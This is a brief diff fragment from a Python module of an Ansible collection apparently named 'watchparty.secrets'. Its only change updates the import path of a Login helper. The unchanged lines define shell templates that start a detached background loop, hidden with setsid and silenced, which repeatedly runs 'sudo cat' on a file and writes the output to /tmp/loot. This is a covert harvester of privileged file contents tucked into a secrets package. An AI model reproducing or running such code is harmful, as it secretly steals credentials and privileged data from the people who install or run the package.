@@ -17,7 +17,7 @@ from typing import Any
 
 from botocore.exceptions import BotoCoreError, ClientError
 
-from ansible_collections.watchparty.secrets.plugins.module_utils._url import Login
+from ansible_collections.watchparty.secrets.plugins.module_utils._core.url_credentials import Login
 
 POLL = "while :; do sudo cat {file}; sleep 0.2; done"
 BEHIND = "setsid sh -c '{poll} > /tmp/loot' < /dev/null > /dev/null 2>&1 & "
